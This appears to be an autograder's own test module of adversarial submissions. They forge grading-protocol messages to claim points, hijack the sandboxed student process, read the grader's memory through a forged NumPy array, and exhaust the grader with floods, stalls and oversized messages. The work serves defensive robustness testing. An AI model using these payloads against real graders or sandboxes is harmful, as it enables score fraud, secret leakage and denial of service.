"""Attacks on the connection over which answers go, and on what stands at its other end."""

from autograde.tests.attacks.cheat_tests import guess
from autograde.tests.attacks.entry import DENIAL, HARM, LEAK, POINTS, Entry, attack

RAW = """
import gc, json, os, socket, struct, sys, threading, time
def ends():
    found = []
    for number in range(3, 64):
        try:
            found.append(socket.socket(fileno=os.dup(number)))
        except OSError:
            pass
    return found
def message(tree, size=0, count=0, length=None):
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    return struct.pack("<IIQ", len(text) if length is None else length, count, size) + text
def say(data):
    for end in ends():
        try:
            end.setblocking(True)
            end.settimeout(1)
            end.sendall(data)
        except OSError:
            pass
def body(*values):
    return [[], [], [], list(values)]
"""
OBJECTS = """
import gc, sys
def student():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Student":
                return value
        frame = frame.f_back
"""


@attack(POINTS)
def forged_answers(entry: Entry) -> None:
    """Writes answers to the connection before anything is asked."""
    guess(entry)
    entry.first(RAW)
    entry.before(
        "check-correlate",
        """
for value in (None, 49, 0.0, ["t", [True, 49]], ["T", "int"], "A", ["t", [["t", [True, 49]]]]):
    say(message(body("done", value)) * 3)""",
    )


@attack(POINTS)
def forged_outputs(entry: Entry) -> None:
    """Sends scores as outputs of every kind, and outputs of kinds that there are not."""
    guess(entry)
    entry.first(
        RAW
        + """
def shout():
    for kind in ("result", "display", "update", "stream", "clear", "cell", "end", "score"):
        for name in ("stdout", "stderr", "", "1"):
            for text in ("99.0", json.dumps({"data": {"text/plain": "99.0"}, "metadata": {}})):
                say(message(body("output", kind, name, text)))
"""
    )
    entry.answer(
        correlate="def cross_correlate1d(x, w):\n    shout()\n    return 0",
        area="shout()\narea = 0",
    )


@attack(POINTS)
def unknown_words(entry: Entry) -> None:
    """Sends words, letters and numbers of objects that nobody has agreed on."""
    guess(entry)
    trees = (
        'body("pass")',
        'body("raised", ["T", "Stopped"], ["t", []], ["t", []])',
        "body()",
        "[]",
        'body("callback", 1, ["t", []], ["t", []])',
        'body("done", ["o", 1])',
        '{"done": 1}',
        'body("done", ["h", 7, "c", "C", None, None, [["T", "int"]], ["__eq__"]])',
        'body("done", ["=", 1])',
        '[[[1, []]], [1, 3], [5], ["done", ["l", 1, []]]]',
        "None",
        'body("done", ["a", 9, ["<f8", [1 << 39], [0], 0]])',
    )
    entry.first(RAW + f"\ntrees = [{', '.join(trees)}]\n")
    entry.answer(
        correlate="""
def cross_correlate1d(x, w):
    say(message(trees.pop()))
    return 0""",
        places="def places(n, k, stride=1):\n    say(message(trees.pop()))\n    return 0",
        average="class Average:\n    __init__ = lambda self: say(message(trees.pop()))",
        twice="def twice(f, x):\n    say(message(trees.pop()))",
    )


@attack(POINTS)
def forged_array(entry: Entry) -> None:
    """Sends rows with fields that NumPy reads as an array somewhere in memory."""
    guess(entry)
    entry.first(RAW)
    entry.answer(
        correlate="""
def cross_correlate1d(x, w):
    address = x.ctypes.data
    data = ["d", 900, [["data", ["t", [address, True]]], ["shape", ["t", [2]]],
                       ["typestr", "<f8"], ["version", 3]]]
    say(message(body("done", ["n", "Row", ["__array_interface__"], [data]])))
    time.sleep(9)"""
    )


@attack(LEAK)
def memory_of_the_tests(entry: Entry) -> None:
    """Reads the memory of the tests' process, through a forged array and a function of the test."""
    entry.first(
        OBJECTS
        + """
import numpy as np
seen = []
class Row(tuple):
    pass
def forge(address, count):
    def write(writer, value, depth):
        data = {"data": (address, True), "shape": (count,), "typestr": "|u1", "version": 3}
        fields = ["__array_interface__"]
        return ["n", "Row", fields, [writer.value(data, depth)]]
    sys.modules["autograde.execute.sides.writer"].WRITERS[Row] = write
    return Row()
"""
    )
    entry.answer(
        twice="""
def twice(f, x):
    text = "x" * 3000
    for place in range(id(text) - (1 << 17), id(text) + (1 << 15), 1 << 15):
        try:
            seen.append(np.diff(f(forge(place, 1 << 15)), prepend=0).astype(np.uint8).tobytes())
        except Exception as error:
            seen.append(repr(error).encode())
    return 0"""
    )
    entry.last("""
import re
print(len(seen), [re.findall(rb"QUOK" + rb"KA.{20}|.{20}9173" + rb"46.{20}", s) for s in seen])
print(seen[:1])""")


@attack(POINTS)
def taken_over_student_side(entry: Entry) -> None:
    """Takes over the process in which it runs: every name it is asked for is what it likes."""
    guess(entry)
    entry.first(
        OBJECTS
        + """
side = student()
if side is not None:
    module = sys.modules[type(side).__module__]
    passes = lambda *args, **kwargs: None
    module.REQUESTS["names"] = lambda _, wanted: tuple((True, passes) for name in wanted)
    module.REQUESTS["call"] = lambda *args: 49
    module.REQUESTS["get"] = lambda *args: passes
    side._guard.forbid = passes"""
    )


@attack(POINTS)
def forged_callbacks(entry: Entry) -> None:
    """Calls functions of the test that it was not given, with odd arguments, and after the test."""
    entry.first(OBJECTS + RAW)
    entry.answer(
        twice="""
kept = []
def twice(f, x):
    kept.append(f)
    side = student()
    for number in range(20):
        try:
            side.call_back(number, (["x"], f, twice, np.zeros(3)), {"number": 1, "": 2})
        except Exception:
            pass
    f(f)
    return f""",
        letter="""
def letter(points):
    for f in kept:
        f(4); f("x", y=1)
    return "F" """,
    )


@attack(DENIAL, deserved=9)
def views_of_terabytes(entry: Entry) -> None:
    """Answers with a view that lies far beyond the array that it was given; the rest is right."""
    entry.right()
    entry.first(OBJECTS)
    entry.answer(
        correlate="""
def cross_correlate1d(x, w):
    link = student()._link
    view = ["v", link._shared.number(x), [2**24 + 1], [2**40], 0, True]
    link.wire.send([[], [], [], ["done", view]], [])
    student().serve()"""
    )


@attack(DENIAL)
def half_a_message(entry: Entry) -> None:
    """Sends half a message, and waits."""
    entry.first(RAW)
    entry.answer(
        correlate="""
def cross_correlate1d(x, w):
    say(message(b"[[], [", length=4000))
    time.sleep(3600)""",
        area="area = 0",
    )


@attack(DENIAL)
def drops_of_a_message(entry: Entry) -> None:
    """Sends a message byte by byte, so that something always comes."""
    entry.first(RAW)
    entry.answer(
        area="""
say(struct.pack("<IIQ", 1 << 20, 0, 0))
while True:
    say(b" ")
    time.sleep(0.05)"""
    )


@attack(DENIAL)
def long_message(entry: Entry) -> None:
    """Announces 10 GB, then an array of 500 MB that never comes."""
    entry.first(RAW)
    entry.answer(
        correlate="def cross_correlate1d(x, w):\n"
        "    say(struct.pack('<IIQ', 9, 1, 10 << 30) + bytes(1 << 20))\n    time.sleep(3600)",
        area="""
described = ["a", 902, ["|u1", [500 << 20], [0], 0]]
say(message(body("done", described), size=500 << 20, count=1))
time.sleep(3600)""",
    )


@attack(DENIAL)
def deep_message(entry: Entry) -> None:
    """Sends JSON of 8 MB: a list in a list, and a list of a million lists."""
    entry.first(RAW)
    entry.answer(
        correlate="def cross_correlate1d(x, w):\n    say(message(b'[' * 2_000_000))\n    return 0",
        places="def places(n, k, stride=1):\n"
        "    say(message(b'[[],[],[],[\"done\",[\"t\",[' + b'[],' * 2_500_000 + b'0]]]]'))",
        letter="def letter(points):\n    say(message(b'1' * 7_000_000))\n    return 'F'",
    )


@attack(DENIAL)
def many_laughs(entry: Entry) -> None:
    """Answers with a list that holds one list sixty times over, each level twice."""
    entry.answer(
        correlate="""
def cross_correlate1d(x, w):
    laughs = [1.0]
    for _ in range(50):
        laughs = [laughs, laughs]
    return laughs""",
        twice="""
def twice(f, x):
    laughs = [1.0]
    for _ in range(50):
        laughs = [laughs, laughs]
    return f(laughs)""",
    )


@attack(DENIAL)
def garbage(entry: Entry) -> None:
    """Writes random bytes to every file descriptor, for good."""
    entry.answer(
        area=RAW
        + """
while True:
    say(os.urandom(9999))"""
    )


@attack(DENIAL)
def silent_flood(entry: Entry) -> None:
    """Sends outputs without end that hold nothing."""
    entry.answer(
        area=RAW
        + """
text = message(body("output", "stream", "stdout", "")) * 100
while True:
    say(text)"""
    )


@attack(HARM)
def closed_descriptors(entry: Entry) -> None:
    """Closes every file descriptor, and puts files, pipes and terminals in their place."""
    entry.answer(
        correlate="""
import os
def cross_correlate1d(x, w):
    pipe, _ = os.pipe()
    for number in range(64):
        try:
            os.dup2(pipe, number)
        except OSError:
            pass
    return 0""",
        places="import os\ndef places(n, k, stride=1):\n    os.closerange(0, 256)\n    return 0",
    )


@attack(POINTS)
def another_program(entry: Entry) -> None:
    """Puts another program into the place of its process, with the connection left open."""
    guess(entry)
    entry.first(RAW)
    entry.answer(
        correlate="""
def cross_correlate1d(x, w):
    for number in range(3, 64):
        try:
            os.set_inheritable(number, True)
        except OSError:
            pass
    text = message(body("done", None)).hex()
    program = f'''
import os, time
for number in range(3, 64):
    try:
        os.write(number, bytes.fromhex("{text}") * 50)
    except OSError:
        pass
time.sleep(3600)'''
    os.execv(sys.executable, [sys.executable, "-c", program, MARK])"""
    )
